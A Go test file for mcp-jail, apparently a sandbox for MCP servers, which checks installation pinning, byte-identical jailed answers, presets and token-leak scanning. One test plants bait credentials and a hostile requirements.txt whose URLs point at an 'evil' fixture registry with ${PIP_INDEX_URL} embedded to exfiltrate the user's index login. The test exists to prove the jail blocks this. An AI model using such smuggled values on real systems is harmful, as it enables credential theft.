package main

import (
	"encoding/json"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/mcp-jail/mcp-jail/internal/testkit"
	fixture "github.com/mcp-jail/mcp-jail/internal/testkit/registry"
	"github.com/mcp-jail/mcp-jail/packages/npm"
	"github.com/mcp-jail/mcp-jail/policy"
	"github.com/mcp-jail/mcp-jail/policy/leak"
	"github.com/mcp-jail/mcp-jail/presets"
)

// newShop returns a world whose npm asks a registry of its own.
func newShop(t *testing.T, stock fixture.Stock) (*world, *fixture.Site) {
	t.Helper()
	need(t, "node", "npx")
	w := newWorld(t)
	t.Cleanup(func() { // its directories are read-only
		w.noneLeft(t) // an installation goes on without its client
		removeStore(t, w)
	})
	site := fixture.Start(t, stock)
	w.plant(t, w.home, map[string]string{".npmrc": "registry=" + site.URL + "/\nupdate-notifier=false\n"})
	return w, site
}

// removeStore removes what is installed. The lock file stays.
func removeStore(t *testing.T, w *world) {
	t.Helper()
	store := filepath.Join(w.home, ".local", "share", "mcp-jail")
	filepath.WalkDir(store, func(name string, d fs.DirEntry, err error) error {
		if d != nil && d.IsDir() {
			os.Chmod(name, 0o700)
		}
		return nil
	})
	must(t, os.RemoveAll(store))
}

// realPackages returns the packages of testdata/npm as they are installed.
func realPackages(t *testing.T) (all []fixture.Package) {
	t.Helper()
	must(t, filepath.WalkDir(filepath.Join(os.Getenv("MCPJAIL_SERVERS"), "node_modules"), func(dir string, d fs.DirEntry, err error) error {
		if err != nil || d.Name() != "node_modules" {
			return err
		}
		plain, _ := filepath.Glob(filepath.Join(dir, "*", "package.json")) // the patterns are well-formed
		scoped, _ := filepath.Glob(filepath.Join(dir, "@*", "*", "package.json"))
		for _, file := range append(plain, scoped...) {
			p, err := fixture.FromDir(filepath.Dir(file))
			if err != nil {
				return err
			}
			all = append(all, p)
		}
		return nil
	}))
	return all
}

// TestMemoryInstalled follows the graph of the memory server, which npx keeps inside the package: here it is in the
// private HOME, and outlives updates.
func TestMemoryInstalled(t *testing.T) {
	testkit.NeedsLong(t)
	need(t, "npm")
	t.Parallel()
	w, site := newShop(t, fixture.Stock{Packages: realPackages(t)})
	argv := []string{"npx", "-y", memory}
	w.plant(t, w.home, map[string]string{".cursor/mcp.json": `{"mcpServers": {"m": {"command": "npx", "args": ["-y", "` + memory + `"]}}}`})
	// On a busy machine the installation takes longer than a client waits.
	w.output(t, "wrap", "--client", "cursor", "--yes")
	entry := testkit.ReadFile(t, filepath.Join(w.home, ".cursor/mcp.json"))
	_, id, _ := strings.Cut(entry, `"--id", "`)
	id, _, _ = strings.Cut(id, `"`)

	holds := func(names ...string) {
		t.Helper()
		s := open(t, w.jail(append([]string{"--id", id, "--"}, argv...)...), nil)
		r := s.tool("read_graph", map[string]any{})
		for _, name := range names {
			if r.IsError || !strings.Contains(r.texts(), `"`+name+`"`) {
				t.Errorf("%q is not in the graph: %s", name, r.texts())
			}
		}
		if r := s.tool("create_entities", remember); r.IsError {
			t.Errorf("create_entities: %s", r.texts())
		}
		if status := s.close(); status != 0 {
			t.Errorf("exit status %d", status)
		}
	}
	holds()
	holds("jail")

	next, err := fixture.FromDir(filepath.Dir(filepath.Dir(server(memory))))
	must(t, err)
	next.Files["package.json"] = strings.Replace(next.Files["package.json"], next.Version, "2099.1.1", 1)
	next.Version, next.Manifest["version"] = "2099.1.1", "2099.1.1"
	site.Publish(next)
	if out := w.output(t, "install", "--update", "--yes", "m"); !strings.Contains(out, "2099.1.1") {
		t.Errorf("the update said %s", out)
	}
	trees, _ := filepath.Glob(filepath.Join(w.home, ".local", "share", "mcp-jail", "packages", "npm", "*", "2099.1.1*"))
	if len(trees) != 1 {
		t.Errorf("the new version is in %q", trees)
	}
	holds("jail")
}

// A sixteenServer is a real server that gives the same answers in a jail. In args, env and
// arguments WORK is the workspace.
type sixteenServer struct {
	name      string
	preset    bool   // of testdata/presets, not of testdata/npm
	short     bool   // in make test
	program   string // below node_modules
	args, env []string
	before    func(t *testing.T, w *world) // prepares the workspace
	tool      string                       // a harmless tool; "" if each needs a browser
	arguments map[string]any
	fails     bool // the tool fails, for want of arguments or of a database
}

// sixteenServers are the servers of testdata/npm, and two of testdata/presets.
var sixteenServers = []sixteenServer{
	{name: "everything", program: everything + "/dist/index.js", tool: "get-sum", arguments: map[string]any{"a": 40, "b": 2}},
	{name: "filesystem", short: true, program: filesystem + "/dist/index.js", args: []string{"WORK"}, tool: "directory_tree", arguments: map[string]any{"path": "WORK"}},
	{name: "filesystem of 2025", program: oldFilesystem + "/dist/index.js", args: []string{"WORK"}, tool: "read_file", arguments: map[string]any{"path": "WORK/note.md"}},
	{name: "git", program: "mcp-git/dist/cli.js", before: newRepository, tool: "git_log", arguments: map[string]any{"repo_path": "WORK"}},
	{name: "github", program: github + "/dist/index.js", env: []string{githubToken + "=planted-token"}, tool: "get_file_contents", fails: true},
	{name: "knowledge graph", program: "@itseasy21/mcp-knowledge-graph/dist/index.js", args: []string{"--memory-path", "WORK/graph.jsonl"}, tool: "read_graph"},
	{name: "memory", program: memory + "/dist/index.js", env: []string{"MEMORY_FILE_PATH=WORK/graph.jsonl"}, tool: "read_graph"},
	{name: "memory bank", program: "@allpepper/memory-bank-mcp/dist/main/index.js", env: []string{"MEMORY_BANK_ROOT=WORK"}, tool: "memory_bank_read", arguments: map[string]any{"projectName": "papers", "fileName": "plan.md"}},
	{name: "playwright", program: playwright + "/cli.js"},
	{name: "postgres", program: databases + "/dist/index.js", args: []string{"postgresql://127.0.0.1:1/none"}, tool: "query", arguments: map[string]any{"sql": "select 42"}, fails: true},
	{name: "tasks", program: "@kazuph/mcp-taskmanager/dist/index.js", env: []string{"TASK_MANAGER_FILE_PATH=WORK/out/tasks.json"}, before: oldTasks, tool: "list_requests"},
	{name: "thinking", short: true, program: thinking + "/dist/index.js", tool: "sequentialthinking", arguments: map[string]any{"thought": "of walls", "thoughtNumber": 1, "totalThoughts": 1, "nextThoughtNeeded": false}},
	{name: "weather", program: "@h1deya/mcp-server-weather/dist/index.js", tool: "get-forecast", fails: true},
	{name: "wikipedia", program: "wikipedia-mcp/dist/index.js", tool: "search", fails: true},
	{name: "obsidian", preset: true, program: "mcp-obsidian/dist/index.js", args: []string{"WORK"}, tool: "read_notes", arguments: map[string]any{"paths": []string{"note.md"}}},
	{name: "slack", preset: true, program: "@modelcontextprotocol/server-slack/dist/index.js", env: []string{"SLACK_BOT_TOKEN=planted-token", "SLACK_TEAM_ID=T1"}, tool: "slack_post_message"},
}

// TestSixteenServers tests that sixteen real servers give the same answers in a jail, byte for
// byte. An answer that differs between two runs without a jail is left out. Under these policies
// mcp-jail adds nothing of its own.
func TestSixteenServers(t *testing.T) {
	need(t, "npm")
	t.Parallel()
	for _, c := range sixteenServers {
		t.Run(c.name, func(t *testing.T) {
			if !c.short {
				testkit.NeedsLong(t)
			}
			if c.preset {
				need(t, "presets")
			}
			t.Parallel()
			w := newWorld(t)
			w.plant(t, w.work, map[string]string{
				"note.md": "a note\n", "papers/plan.md": "a plan\n", "tmp.txt": "x", "graph.jsonl": `{"type":"entity","name":"jail","entityType":"thing","observations":["it holds"]}` + "\n",
			})
			if c.before != nil {
				c.before(t, w)
			}
			argv, grants := c.command(w)
			bare, again := c.answers(t, w.plain(argv...)), c.answers(t, w.plain(argv...))
			jailed := c.answers(t, w.jail(slices.Concat(grants, []string{"--"}, argv)...))
			if bare["tools/list"] != again["tools/list"] {
				t.Error("two bare runs list different tools, so nothing is left to compare")
			}
			for _, method := range slices.Sorted(maps.Keys(bare)) {
				if bare[method] != again[method] {
					t.Logf("left out, since two bare runs differ: %s\n %s\n %s", method, bare[method], again[method])
					continue
				}
				if bare[method] != jailed[method] {
					t.Errorf("%s\n bare   %s\n jailed %s", method, bare[method], jailed[method])
				}
			}
		})
	}
}

// command returns the command of the server, and the flags that grant it its variables.
func (c *sixteenServer) command(w *world) (argv, grants []string) {
	modules := "MCPJAIL_SERVERS"
	if c.preset {
		modules = "MCPJAIL_PRESETS"
	}
	argv = []string{"node", filepath.Join(os.Getenv(modules), "node_modules", filepath.FromSlash(c.program))}
	for _, a := range c.args {
		argv = append(argv, strings.ReplaceAll(a, "WORK", w.work))
	}
	for _, v := range c.env {
		name, value, _ := strings.Cut(v, "=")
		w.env = append(w.env, name+"="+strings.ReplaceAll(value, "WORK", w.work))
		grants = append(grants, "--env", name)
	}
	return argv, grants
}

// answers plays a session and returns the answer to each method.
func (c *sixteenServer) answers(t *testing.T, cmd *exec.Cmd) map[string]string {
	t.Helper()
	s := start(t, cmd)
	all := map[string]string{"initialize": string(s.initialize(nil))}
	for _, method := range []string{"tools/list", "resources/list", "prompts/list"} {
		m := s.call(method, nil)
		all[method] = string(m.Result) + string(m.Error)
	}
	if c.tool != "" {
		arguments := maps.Clone(c.arguments)
		for name, value := range arguments {
			if text, ok := value.(string); ok {
				arguments[name] = strings.ReplaceAll(text, "WORK", cmd.Dir)
			}
		}
		r := s.tool(c.tool, arguments)
		if r.IsError != c.fails {
			t.Errorf("%s: %s", c.tool, r.raw)
		}
		all["tools/call"] = string(r.raw)
	}
	s.in.Close()
	return all
}

// TestInstalledPresets tests the presets of the servers of testdata/npm. With nothing in its environment but what the
// preset forwards, and placeholders for its secrets, each server lists the tools of read_only, says of those alone that
// they only read, and is of a version that the preset names.
func TestInstalledPresets(t *testing.T) {
	need(t, "npm")
	t.Parallel()
	tried := 0
	for _, name := range presets.Names() {
		p, err := presets.Find(name)
		must(t, err)
		for _, pkg := range p.Packages {
			at := slices.IndexFunc(sixteenServers, func(c sixteenServer) bool { return !c.preset && strings.HasPrefix(c.program, pkg.Name+"/") })
			if pkg.Ecosystem != presets.NPM || at < 0 {
				continue
			}
			tried++
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				checkVersion(t, module(pkg.Name), pkg)
				w := newWorld(t)
				argv, _ := sixteenServers[at].command(w)
				w.env = []string{"PATH=" + userPath(), "HOME=" + w.home}
				for _, v := range p.Server.Variables {
					w.env = append(w.env, v.Name+"=x")
				}
				if access := p.Server.Access; access != nil {
					for _, r := range access.Net {
						for _, s := range r.Secrets {
							w.env = append(w.env, s.Env+"="+policy.Placeholder(s.Env))
						}
					}
				}
				s := open(t, w.plain(argv...), nil)
				defer s.close()
				compareTools(t, p, s.result("tools/list", nil))
			})
		}
	}
	if tried < 7 {
		t.Errorf("%d presets were tried", tried)
	}
}

// compareTools compares what a server says of its tools with what the preset does. A server
// that says nothing of any tool contradicts nothing.
func compareTools(t *testing.T, p *presets.Preset, list json.RawMessage) {
	t.Helper()
	tools := listedTools(t, list)
	for _, name := range p.ReadOnly {
		listed := slices.ContainsFunc(tools, func(l listedTool) bool { return l.Name == name })
		if !listed && name != "get-roots-list" { // that one comes once the client's roots are known
			t.Errorf("there is no tool %s", name)
		}
	}
	for _, tool := range tools {
		if hint := tool.Annotations.ReadOnlyHint; hint != nil && *hint != slices.Contains(p.ReadOnly, tool.Name) {
			t.Errorf("%s says readOnlyHint = %t", tool.Name, *hint)
		}
	}
}

// TestWritersAmongInstalled reads the installed servers: a file that names its own folder and writes files is in the
// table of npm.DataVariable, and the code of the table's version has its facts.
func TestWritersAmongInstalled(t *testing.T) {
	need(t, "npm")
	own := regexp.MustCompile(`import\.meta\.(url|dirname|filename)|__dirname|__filename`)
	writes := regexp.MustCompile(`writeFile|appendFile|createWriteStream|mkdir`)
	dirs, _ := filepath.Glob(module("@modelcontextprotocol", "server-*"))
	for _, dir := range dirs {
		pkg := "@modelcontextprotocol/" + filepath.Base(dir)
		variable, name := npm.DataVariable(pkg)
		files, _ := filepath.Glob(filepath.Join(dir, "dist", "*.js"))
		deeper, _ := filepath.Glob(filepath.Join(dir, "dist", "*", "*.js"))
		found := false
		for _, file := range append(files, deeper...) {
			code := testkit.ReadFile(t, file)
			if own.MatchString(code) && writes.MatchString(code) {
				found = true
				if !strings.Contains(code, variable) || !strings.Contains(code, "'"+name+"'") {
					t.Errorf("%s does not have what the table says: %s, %s", file, variable, name)
				}
			}
		}
		if found != (name != "") {
			t.Errorf("%s: writes in its own folder %v, in the table %v", pkg, found, name != "")
		}
	}
	if len(dirs) < 6 {
		t.Errorf("only %d servers", len(dirs))
	}
}

// TestInstalledHaveNoTokens: the search for leaks takes nothing in the files of the installed servers for a token. make
// test-long reads them all.
func TestInstalledHaveNoTokens(t *testing.T) {
	need(t, "npm")
	t.Parallel()
	f := leak.New(nil, true)
	n, every := 0, testkit.Rounds(20, 1)
	must(t, filepath.WalkDir(module(""), func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() && d.Name() == "testdata" {
			return filepath.SkipDir
		}
		if info, err := d.Info(); err != nil || !info.Mode().IsRegular() || info.Size() > 1<<20 {
			return nil
		}
		if n++; n%every == 0 {
			text, err := json.Marshal(testkit.ReadFile(t, name))
			must(t, err)
			if got := f.Find(text); got != nil {
				t.Errorf("%s: %v", name, got)
			}
		}
		return nil
	}))
	if n < 500 {
		t.Errorf("only %d files", n)
	}
}

// newRepository makes a repository of the workspace.
func newRepository(t *testing.T, w *world) {
	t.Helper()
	for _, args := range [][]string{{"init", "--quiet"}, {"config", "user.name", "mason"}, {"config", "user.email", "mason@example.com"}, {"add", "tmp.txt"}, {"commit", "--quiet", "--message", "begin"}} {
		if out, err := w.plain(append([]string{"git"}, args...)...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v: %s", args, err, out)
		}
	}
}

// oldTasks is the file of a server of tasks with a request of an earlier session.
func oldTasks(t *testing.T, w *world) {
	t.Helper()
	w.plant(t, w.work, map[string]string{"out/tasks.json": `{"requests": [{"requestId": "req-1", "originalRequest": "a moat", "splitDetails": "a moat", "completed": false, "tasks": [{"id": "task-1", "title": "a wall", "description": "of stone", "done": false, "approved": false, "completedDetails": ""}]}]}`})
}

// npxLines are lines of real servers, after "npx -y". In them WORK is the workspace.
var npxLines = []string{
	everything,
	filesystem + " WORK",
	github,
	"mcp-git",
	memory,
	thinking,
	"@h1deya/mcp-server-weather",
	"@itseasy21/mcp-knowledge-graph",
	"@kazuph/mcp-taskmanager@1.1.1",
	"wikipedia-mcp",
}

// TestNpxLines tests that the unmodified npx lines of ten real servers start pinned. The package is fetched once,
// and its versions are in the lock file. The starts ask the registry for nothing, and do without it. That a first
// start fetches by itself is tested by package_first.txtar, with a package that is there in time.
func TestNpxLines(t *testing.T) {
	testkit.NeedsLong(t)
	need(t, "npm")
	t.Parallel()
	w, site := newShop(t, fixture.Stock{Packages: realPackages(t)})
	line := func(words string) []string {
		return append([]string{"--", "npx", "-y"}, strings.Fields(strings.ReplaceAll(words, "WORK", w.work))...)
	}
	for _, words := range npxLines {
		w.output(t, append([]string{"install"}, line(words)...)...)
	}
	lock := testkit.ReadFile(t, filepath.Join(w.home, ".config/mcp-jail/mcp-jail.lock"))
	site.Forget()
	for n, words := range append(npxLines, npxLines...) {
		if n == len(npxLines) {
			if asked := site.Requests(); len(asked) > 0 {
				t.Errorf("the starts asked the registry: %+v", asked)
			}
			site.Close()
		}
		if name, _ := cutVersion(strings.Fields(words)[0]); !strings.Contains(lock, `"`+name+`"`) {
			t.Errorf("%s is not in the lock file", name)
		}
		s := open(t, w.jail(line(words)...), nil)
		if list := s.call("tools/list", nil); list.Error != nil || !strings.Contains(string(list.Result), `"name"`) {
			t.Errorf("%s: %s%s", words, list.Error, list.Result)
		}
		if status := s.close(); status != 0 {
			t.Errorf("%s: status %d, %s", words, status, s.stderr.String())
		}
	}
}

// cutVersion splits NAME@VERSION, whose name may begin with an @.
func cutVersion(spec string) (name, version string) {
	if at := strings.LastIndexByte(spec, '@'); at > 0 {
		return spec[:at], spec[at+1:]
	}
	return spec, ""
}

// TestLinesOfOthers tests that the line of a cloned repository has nothing fetched but in the plain forms: no
// registry that it names is asked for anything, so none gets the user's logins or a file of the user's. The
// control is that such a registry is asked when the user's own configuration names it.
func TestLinesOfOthers(t *testing.T) {
	need(t, "pip")
	t.Parallel()
	const password, secret = "tok4606f1a9", "hunterd4c2faf8"
	server := fixture.MCPServer{Name: "good", Version: "1.0.0"}
	stock := fixture.Stock{Packages: []fixture.Package{server.Package()}, Wheels: []fixture.Wheel{server.Wheel()}}
	w, own := newShop(t, stock)
	evil := fixture.Start(t, stock)
	withLogin := strings.Replace(own.URL, "http://", "http://me:"+password+"@", 1)
	w.plant(t, w.home, map[string]string{
		".npmrc":               "registry=" + withLogin + "/\n",
		".config/pip/pip.conf": "[global]\nindex-url = " + withLogin + "/simple\n",
		".pgpass":              "db.example:5432:*:me:" + secret + "\n",
		"notes/passwords.txt":  secret + "\n",
	})
	w.plant(t, w.work, map[string]string{
		"requirements.txt": "evil @ " + evil.URL + "/x/${PIP_INDEX_URL}/evil-1.0-py3-none-any.whl\n--extra-index-url " + evil.URL + "/y/${PIP_INDEX_URL}\n",
	})
	line := func(words string) (said string) {
		t.Helper()
		words = strings.NewReplacer("EVIL", evil.URL, "HOME", w.home).Replace(words)
		s := start(t, w.jail(append([]string{"--"}, strings.Fields(words)...)...))
		answer := s.call("initialize", map[string]any{"protocolVersion": "2025-11-25", "capabilities": map[string]any{}, "clientInfo": map[string]any{"name": "t", "version": "1"}})
		s.close()
		return string(answer.Result) + string(answer.Error) + s.stderr.String()
	}
	for _, words := range testkit.Table[string](t, "package-lines.txt") {
		said := line(words)
		if !strings.Contains(said, "not pinned") || strings.Contains(said, "serverInfo") {
			t.Errorf("%s: %s", words, said)
		}
		if told := fmt.Sprint(evil.Requests(), said); len(evil.Requests()) > 0 || strings.Contains(told, password) || strings.Contains(told, secret) {
			t.Errorf("%s: %s", words, told)
		}
	}
	w.plant(t, w.home, map[string]string{".npmrc": "registry=" + strings.Replace(withLogin, own.URL[len("http://"):], evil.URL[len("http://"):], 1) + "/\n"})
	for words, site := range map[string]*fixture.Site{"npx -y good": evil, "uvx good": own} {
		if said := line(words); !strings.Contains(said, "serverInfo") {
			t.Errorf("control, %s: %s", words, said)
		}
		// Anybody may have written the line: no login goes even to the user's own registry.
		if asked := site.Requests(); len(asked) == 0 || strings.Contains(fmt.Sprint(asked), "Basic ") {
			t.Errorf("control, %s: %+v", words, asked)
		}
	}
}
